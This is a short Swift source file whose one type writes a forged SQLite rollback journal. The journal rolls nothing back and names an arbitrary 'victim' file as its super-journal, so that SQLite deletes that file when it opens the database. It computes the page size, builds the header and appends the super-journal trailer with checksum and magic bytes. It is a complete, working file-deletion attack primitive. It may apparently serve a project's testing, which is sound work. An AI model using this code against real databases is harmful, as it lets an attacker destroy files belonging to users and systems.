import Foundation

/// A rollback journal of an SQLite database that rolls nothing back and names another file as its super-journal. SQLite
/// deletes that file when it finds the journal.
///
/// Source: https://sqlite.org/fileformat.html#the_rollback_journal; the trailer is that of `writeSuperJournal` in pager.c.
package enum ForgedJournal {
  /// Writes `DATABASE-journal`. The database must not be open, or only be read.
  package static func write(for database: String, naming victim: String) throws {
    let header = try Data(FileHandle(forReadingFrom: URL(fileURLWithPath: database)).read(upToCount: 100) ?? Data())
    let stored = Int(header[16]) << 8 | Int(header[17])
    let pageSize = stored == 1 ? 65_536 : stored
    let size = try FileManager.default.attributesOfItem(atPath: database)[.size] as? Int ?? 0
    func big(_ number: Int) -> [UInt8] { [24, 16, 8, 0].map { UInt8(truncatingIfNeeded: number >> $0) } }
    let magic: [UInt8] = [0xd9, 0xd5, 0x05, 0xf9, 0x20, 0xa1, 0x63, 0xd7]
    var bytes = magic + big(0) + big(7) + big(size / pageSize) + big(512) + big(pageSize)
    bytes += [UInt8](repeating: 0, count: 512 - bytes.count)
    let name = Array(victim.utf8)
    bytes += big(0x4000_0000 / pageSize + 1) + name + big(name.count)
    bytes += big(name.reduce(0) { $0 + Int(Int8(bitPattern: $1)) }) + magic
    try Data(bytes).write(to: URL(fileURLWithPath: database + "-journal"))
  }
}
